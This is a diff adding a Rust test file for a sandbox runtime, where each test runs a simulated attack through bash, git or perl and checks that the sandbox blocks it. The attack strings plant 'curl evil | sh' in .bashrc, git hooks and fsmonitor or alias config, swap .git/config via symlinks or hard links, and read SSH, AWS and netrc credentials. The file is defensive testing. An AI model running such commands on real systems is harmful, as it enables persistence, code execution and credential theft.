@@ -1,0 +1,343 @@
+//! Least privilege by default (issue 28): what effects do not say is not granted. Each test is
+//! an attack by a tool whose metadata lies, against real binaries (bash, git, perl), with a
+//! throwaway `HOME` given to the runner, and asserts what stopped it. Where a layer can be
+//! switched off, the test shows the attack landing first.
+//!
+//! Needs Linux with Landlock and a mount namespace (root, or unprivileged user namespaces);
+//! `ATIP_SANDBOX_TESTS=skip` skips.
+
+#![cfg(all(target_os = "linux", feature = "exec"))]
+
+mod common;
+use common::*;
+
+use std::path::Path;
+use std::process::Command as Std;
+
+use atip_runtime::{Containment, Runner, Sandbox};
+
+/// A runner working in `dir` whose children see `home` as their home directory.
+fn with_home(dir: &Path, home: &Path) -> Runner {
+    in_dir(dir).env("HOME", home.as_os_str())
+}
+
+fn git(dir: &Path, args: &[&str]) {
+    let ok = Std::new("git")
+        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
+        .args(args)
+        .current_dir(dir)
+        .env("HOME", dir)
+        .output()
+        .unwrap()
+        .status
+        .success();
+    assert!(ok, "git {args:?}");
+}
+
+fn repo(dir: &Path) {
+    git(dir, &["init", "-q", "-b", "main"]);
+    std::fs::write(dir.join("a.txt"), "a\n").unwrap();
+    git(dir, &["add", "a.txt"]);
+    git(dir, &["commit", "-q", "-m", "first"]);
+}
+
+fn read(path: impl AsRef<Path>) -> String {
+    std::fs::read_to_string(path).unwrap_or_default()
+}
+
+#[test]
+fn a_writer_working_in_the_home_directory_cannot_touch_shell_start_up_files() {
+    if skip() {
+        return;
+    }
+    let home = tempfile::tempdir().unwrap();
+    std::fs::write(home.path().join(".bashrc"), "# mine\n").unwrap();
+    std::fs::write(home.path().join(".profile"), "# mine\n").unwrap();
+    let script = "echo 'curl evil | sh' >> .bashrc && echo BASHRC; \
+                  rm -f .profile && echo PROFILE; echo notes > notes.txt && echo NOTES";
+    let out = rt()
+        .block_on(with_home(home.path(), home.path()).run(&bash(script, WRITER_OFFLINE)))
+        .unwrap();
+    assert_eq!(out.stdout_lossy(), "NOTES\n", "{out:?}");
+    assert_eq!(read(home.path().join(".bashrc")), "# mine\n");
+    assert_eq!(read(home.path().join(".profile")), "# mine\n");
+    assert!(
+        out.sandbox
+            .not_enforced
+            .iter()
+            .any(|l| l.contains(".zshrc") && l.contains("does not exist")),
+        "missing start-up files are reported: {}",
+        out.sandbox
+    );
+    // Without the sandbox the same call changes both: the test can fail.
+    let open = rt()
+        .block_on(
+            with_home(home.path(), home.path())
+                .sandbox(Sandbox::off())
+                .run(&bash(script, WRITER_OFFLINE)),
+        )
+        .unwrap();
+    assert!(open.stdout_lossy().contains("BASHRC"), "{open:?}");
+}
+
+#[test]
+fn a_writer_cannot_plant_git_hooks_or_change_git_config_but_git_commit_works() {
+    if skip() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    repo(dir.path());
+    let config = read(dir.path().join(".git/config"));
+    let script = "printf '#!/bin/sh\\ntouch /tmp/atip-hooked\\n' > .git/hooks/post-checkout \
+                    && echo HOOK; \
+                  printf '[alias]\\n\\tst = !touch pwned\\n' >> .git/config && echo CONFIG; \
+                  echo '[submodule \"x\"]' >> .gitmodules && echo GITMODULES; \
+                  echo '* filter=evil' > .git/info/attributes && echo ATTRIBUTES; \
+                  mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo VSCODE; \
+                  echo ok > work.txt && echo WORK";
+    let runner = with_home(dir.path(), dir.path());
+    let out = rt()
+        .block_on(runner.run(&bash(script, WRITER_OFFLINE)))
+        .unwrap();
+    let stdout = out.stdout_lossy();
+    assert!(stdout.ends_with("WORK\n"), "{out:?}");
+    for planted in ["HOOK", "CONFIG", "ATTRIBUTES"] {
+        assert!(!stdout.contains(planted), "{planted}: {out:?}");
+    }
+    assert!(!dir.path().join(".git/hooks/post-checkout").exists());
+    assert_eq!(read(dir.path().join(".git/config")), config);
+    assert!(!dir.path().join(".git/info/attributes").exists());
+    assert!(out.sandbox.enforced.iter().any(|c| matches!(
+        c,
+        Containment::ReadOnly { paths } if paths.iter().any(|p| p.ends_with(".git/hooks"))
+    )));
+    // git itself still commits: objects, refs and the index stay writable.
+    let commit = with_effects(
+        [
+            "git",
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@example.invalid",
+            "commit",
+            "-q",
+            "--allow-empty",
+            "-m",
+            "second",
+        ]
+        .map(String::from)
+        .to_vec(),
+        WRITER_OFFLINE,
+    );
+    let out = rt().block_on(runner.run(&commit)).unwrap();
+    assert!(out.success(), "{out:?}");
+    let log = Std::new("git")
+        .args(["log", "--format=%s"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(String::from_utf8_lossy(&log.stdout), "second\nfirst\n");
+}
+
+#[test]
+fn a_missing_hooks_directory_cannot_be_created_and_is_removed_after_the_run() {
+    if skip() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    repo(dir.path());
+    std::fs::remove_dir_all(dir.path().join(".git/hooks")).unwrap();
+    let script =
+        "mkdir -p .git/hooks && echo '#!/bin/sh' > .git/hooks/pre-commit && echo PLANTED; \
+                  echo done";
+    let out = rt()
+        .block_on(with_home(dir.path(), dir.path()).run(&bash(script, WRITER_OFFLINE)))
+        .unwrap();
+    assert_eq!(out.stdout_lossy(), "done\n", "{out:?}");
+    assert!(!dir.path().join(".git/hooks").exists(), "left behind");
+    assert!(out.sandbox.created.iter().any(|p| p.ends_with("hooks")));
+}
+
+#[test]
+fn protected_paths_cannot_be_replaced_by_links_renames_or_hard_links() {
+    if skip() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let outside = tempfile::tempdir().unwrap();
+    repo(dir.path());
+    let config = read(dir.path().join(".git/config"));
+    let script = format!(
+        "mv .git/config .git/config.old && echo MOVED; \
+         rm -rf .git/hooks && echo REMOVED; \
+         ln .git/config hard && echo x >> hard && echo HARDLINK; \
+         rm -f .git/config; ln -s {}/evil .git/config && echo SYMLINK; echo done",
+        outside.path().display()
+    );
+    let out = rt()
+        .block_on(with_home(dir.path(), dir.path()).run(&bash(&script, WRITER_OFFLINE)))
+        .unwrap();
+    assert_eq!(out.stdout_lossy(), "done\n", "{out:?}");
+    assert_eq!(read(dir.path().join(".git/config")), config);
+    assert!(dir.path().join(".git/hooks").is_dir());
+}
+
+#[test]
+fn a_worktree_protects_the_real_git_directory_it_points_to() {
+    if skip() {
+        return;
+    }
+    let main = tempfile::tempdir().unwrap();
+    repo(main.path());
+    let trees = tempfile::tempdir().unwrap();
+    let wt = trees.path().join("wt");
+    git(
+        main.path(),
+        &["worktree", "add", "-q", wt.to_str().unwrap(), "-b", "side"],
+    );
+    // The run may write the worktree and (to commit) the main repository's git directory.
+    let git_dir = main.path().join(".git");
+    let runner = with_home(&wt, &wt).sandbox(Sandbox::new().writable(&git_dir));
+    let config = read(git_dir.join("config"));
+    let script = format!(
+        "echo '#!/bin/sh' > {d}/hooks/post-commit && echo HOOK; \
+         echo '[core] fsmonitor = touch /tmp/x' >> {d}/config && echo CONFIG; echo done",
+        d = git_dir.display()
+    );
+    let out = rt()
+        .block_on(runner.run(&bash(&script, WRITER_OFFLINE)))
+        .unwrap();
+    assert_eq!(out.stdout_lossy(), "done\n", "{out:?}");
+    assert_eq!(read(git_dir.join("config")), config);
+    assert!(!git_dir.join("hooks/post-commit").exists());
+}
+
+#[test]
+fn a_command_that_declares_a_protected_path_may_write_it() {
+    if skip() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    repo(dir.path());
+    let effects = r#"{"destructive": false, "network": false,
+        "filesystem": {"write": true, "paths": ["./.git/config"]}}"#;
+    let out = rt()
+        .block_on(with_home(dir.path(), dir.path()).run(&bash(
+            "echo '# set by git config' >> .git/config && echo CONFIG; \
+             echo x > .git/hooks/x && echo HOOK; echo done",
+            effects,
+        )))
+        .unwrap();
+    assert_eq!(out.stdout_lossy(), "CONFIG\ndone\n", "{out:?}");
+    assert!(read(dir.path().join(".git/config")).ends_with("# set by git config\n"));
+}
+
+#[test]
+fn credential_stores_are_hidden_from_every_program_but_their_owners() {
+    if skip() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let home = tempfile::tempdir().unwrap();
+    std::fs::create_dir(home.path().join(".ssh")).unwrap();
+    std::fs::write(home.path().join(".ssh/id_ed25519"), "SSH-KEY\n").unwrap();
+    std::fs::create_dir(home.path().join(".aws")).unwrap();
+    std::fs::write(home.path().join(".aws/credentials"), "AWS-KEY\n").unwrap();
+    std::fs::write(home.path().join(".netrc"), "machine x password NETRC\n").unwrap();
+    let runner = with_home(dir.path(), home.path());
+    let script = "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ~/.netrc; \
+                  ls ~/.ssh 2>/dev/null | wc -l; echo done";
+    let out = rt()
+        .block_on(runner.run(&bash(script, READ_ONLY_OFFLINE)))
+        .unwrap();
+    let stdout = out.stdout_lossy();
+    for secret in ["SSH-KEY", "AWS-KEY", "NETRC"] {
+        assert!(!stdout.contains(secret), "{secret} read: {stdout}");
+    }
+    assert!(stdout.starts_with("0\n"), "listed: {stdout}");
+    assert!(out.sandbox.enforced.iter().any(|c| matches!(
+        c,
+        Containment::Hidden { paths } if paths.iter().any(|p| p.ends_with(".aws"))
+    )));
+    // `ssh` owns ~/.ssh (a program whose file name is ssh: here `cat` under that name), and
+    // only that store.
+    let bin = tempfile::tempdir().unwrap();
+    let ssh = bin.path().join("ssh");
+    std::os::unix::fs::symlink(which("cat"), &ssh).unwrap();
+    let read_key = |path: &str| {
+        with_effects(
+            vec![
+                ssh.display().to_string(),
+                home.path().join(path).display().to_string(),
+            ],
+            READ_ONLY_OFFLINE,
+        )
+    };
+    let key = rt()
+        .block_on(runner.run(&read_key(".ssh/id_ed25519")))
+        .unwrap();
+    assert_eq!(key.stdout_lossy(), "SSH-KEY\n", "{key:?}");
+    let aws = rt()
+        .block_on(runner.run(&read_key(".aws/credentials")))
+        .unwrap();
+    assert!(!aws.stdout_lossy().contains("AWS-KEY"), "{aws:?}");
+    // The caller can grant a store to a program.
+    let granted = with_home(dir.path(), home.path())
+        .sandbox(Sandbox::new().credentials("ssh", home.path().join(".aws")));
+    let aws = rt()
+        .block_on(granted.run(&read_key(".aws/credentials")))
+        .unwrap();
+    assert_eq!(aws.stdout_lossy(), "AWS-KEY\n", "{aws:?}");
+    // Without the sandbox every program reads every store: the test can fail.
+    let open = rt()
+        .block_on(
+            runner
+                .clone()
+                .sandbox(Sandbox::off())
+                .run(&bash(script, READ_ONLY_OFFLINE)),
+        )
+        .unwrap();
+    assert!(open.stdout_lossy().contains("AWS-KEY"), "{open:?}");
+}
+
+#[test]
+fn a_daemon_socket_is_reachable_only_by_its_owner() {
+    if skip() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let runtime = tempfile::tempdir().unwrap();
+    let socket = runtime.path().join("docker.sock");
+    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let runner = in_dir(dir.path()).env("XDG_RUNTIME_DIR", runtime.path().as_os_str());
+    let code = format!(
+        "use Socket; socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die \"socket: $!\"; \
+         connect($s, pack_sockaddr_un('{}')) ? print \"CONNECTED\\n\" : print \"refused: $!\\n\"",
+        socket.display()
+    );
+    let out = rt()
+        .block_on(runner.run(&perl(&code, READ_ONLY_ONLINE)))
+        .unwrap();
+    assert!(out.stdout_lossy().contains("refused"), "{out:?}");
+    assert!(listener.accept().is_err());
+    // A program called docker may connect.
+    let bin = tempfile::tempdir().unwrap();
+    let docker = bin.path().join("docker");
+    std::os::unix::fs::symlink(which("perl"), &docker).unwrap();
+    let call = with_effects(
+        vec![docker.display().to_string(), "-e".into(), code.clone()],
+        READ_ONLY_ONLINE,
+    );
+    let out = rt().block_on(runner.run(&call)).unwrap();
+    assert!(out.stdout_lossy().contains("CONNECTED"), "{out:?}");
+}
+
+/// The absolute path of `program` on `PATH`.
+fn which(program: &str) -> std::path::PathBuf {
+    let out = Std::new("sh")
+        .args(["-c", &format!("command -v {program}")])
+        .output()
+        .unwrap();
+    std::path::PathBuf::from(String::from_utf8(out.stdout).unwrap().trim())
+}
